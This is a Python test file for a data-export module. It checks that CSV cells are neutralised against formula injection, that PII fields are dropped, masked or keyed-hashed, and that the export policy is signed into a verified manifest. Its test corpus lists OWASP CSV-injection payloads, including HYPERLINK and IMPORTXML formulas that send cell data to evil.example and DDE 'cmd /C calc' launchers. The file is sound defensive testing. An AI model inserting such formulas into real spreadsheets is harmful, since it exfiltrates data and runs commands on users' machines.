"""Analysts' entry tables and the PII policy: no formula reaches a CSV cell, the policy is signed
into the manifest, and no PII value is in any exported file in clear."""

from __future__ import annotations

import csv
import io
import json

import pyarrow.parquet as pq
import pytest

from driftline.errors import InputError
from governance.actor import Actor
from governance.export import verify_bundle
from governance.export_pii import PiiPolicy
from governance.export_tables import neutralise
from tests.governance.test_export import KEYS, export, home  # noqa: F401  (fixture)

# OWASP CSV injection strings, their variants behind spaces, control characters and Unicode look-alikes.
CORPUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "=1+1", "+cmd|' /C calc'!A0",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    "\tcmd", "\rcmd", " =1+1", "  @SUM(A1)", "\u00a0=1+1", "\u3000=1+1", "\uff1d1+1", "\uff0bcmd", "\uff0d1+1",
    "\uff20SUM(A1)", "\ufe661+1", "\ufe62cmd", "\ufe631+1", "\ufe6bSUM(A1)", "\u22121+1", "\u2013cmd",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")', "=DDE(\"cmd\";\"/C calc\";\"x\")",
]
FORMULA_START = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212\u2013")


@pytest.mark.parametrize("value", CORPUS)
def test_no_formula_reaches_a_csv_cell(home, value):  # noqa: F811
    root, log = home
    log.append("model.scored", value, {"note": value}, actor=Actor(user=value, host="laptop"))
    bundle = export(home, formats=("csv",))
    assert verify_bundle(bundle, KEYS).ok
    rows = list(csv.reader(io.StringIO((bundle / "entries.csv").read_bytes().decode("utf-8"), newline="")))
    for row in rows:
        for cell in row:
            lead = cell.lstrip(" \u00a0\u3000")
            assert not (cell[:1] in FORMULA_START or lead[:1] in FORMULA_START), (value, cell)
    assert any(cell == "'" + value for row in rows for cell in row)  # kept, readable, neutralised


def test_plain_cells_are_left_alone():
    assert [neutralise(v) for v in ("churn/1", "0.81", "", None, "a=b", "C000123")] == \
        ["churn/1", "0.81", "", "", "a=b", "C000123"]


def test_jsonl_and_parquet_tables_hold_the_shipped_entries(home):  # noqa: F811
    bundle = export(home, formats=("jsonl", "parquet"), pii_fields=("email",))
    assert verify_bundle(bundle, KEYS).ok
    lines = [json.loads(line) for line in (bundle / "entries.jsonl").read_text().splitlines()]
    table = pq.read_table(bundle / "entries.parquet").to_pylist()
    assert [r["seq"] for r in lines] == [r["seq"] for r in table] == list(range(1, 7))
    manifest = json.loads((bundle / "manifest.json").read_bytes())
    assert {"entries.jsonl", "entries.parquet"} <= set(manifest["files"])


def test_an_unknown_format_or_policy_is_refused(home):  # noqa: F811
    with pytest.raises(InputError, match="xlsx"):
        export(home, formats=("xlsx",))
    with pytest.raises(InputError, match="scramble"):
        PiiPolicy(("email",), "scramble")
    with pytest.raises(InputError, match="needs a key"):
        PiiPolicy(("email",), "hash")
    assert not (home[0] / "bundle").exists()


HASH_KEY = b"\x07" * 32


@pytest.mark.parametrize("action", ["drop", "mask", "hash"])
def test_pii_policy_leaves_no_value_in_clear_and_is_signed_into_the_manifest(home, action):  # noqa: F811
    policy = PiiPolicy(("email", "ssn"), action, HASH_KEY if action == "hash" else None)
    bundle = export(home, pii=policy, formats=("jsonl", "csv", "parquet"))
    result = verify_bundle(bundle, KEYS)
    assert result.ok and result.entries_masked == 6, result.problems
    everything = b"".join(p.read_bytes() for p in bundle.rglob("*") if p.is_file())
    assert b"example.com" not in everything and b"123-45-6789" not in everything
    assert HASH_KEY not in everything and HASH_KEY.hex().encode() not in everything
    manifest = json.loads((bundle / "manifest.json").read_bytes())
    assert manifest["pii_policy"]["fields"] == {"email": action, "ssn": action}
    assert ("hash" in manifest["pii_policy"]) == (action == "hash")
    details = [json.loads(line)["details"] for line in (bundle / "audit/entries.jsonl").read_text().splitlines()]
    if action == "drop":
        assert all("email" not in d for d in details)
    elif action == "hash":  # the same identifier, the same token: analysts can still join on it
        tokens = [d["email"] for d in details]
        assert all(t.startswith("hmac-sha256:") for t in tokens) and len(set(tokens)) == len(tokens)
        again = PiiPolicy(("email",), "hash", HASH_KEY).apply({"email": "user0@example.com"})[0]["email"]
        assert again == tokens[0]
        other = PiiPolicy(("email",), "hash", b"\x08" * 32).apply(
            {"email": "user0@example.com"})[0]["email"]
        assert other != tokens[0]  # keyed: without the signing key nobody recomputes it


def test_a_changed_pii_policy_in_the_manifest_fails_verification(home):  # noqa: F811
    bundle = export(home, pii=PiiPolicy(("email",), "hash", HASH_KEY))
    path = bundle / "manifest.json"
    path.write_bytes(path.read_bytes().replace(b'"email":"hash"', b'"email":"mask"'))
    result = verify_bundle(bundle, KEYS)
    assert not result.ok and "manifest signature" in result.problems[0]
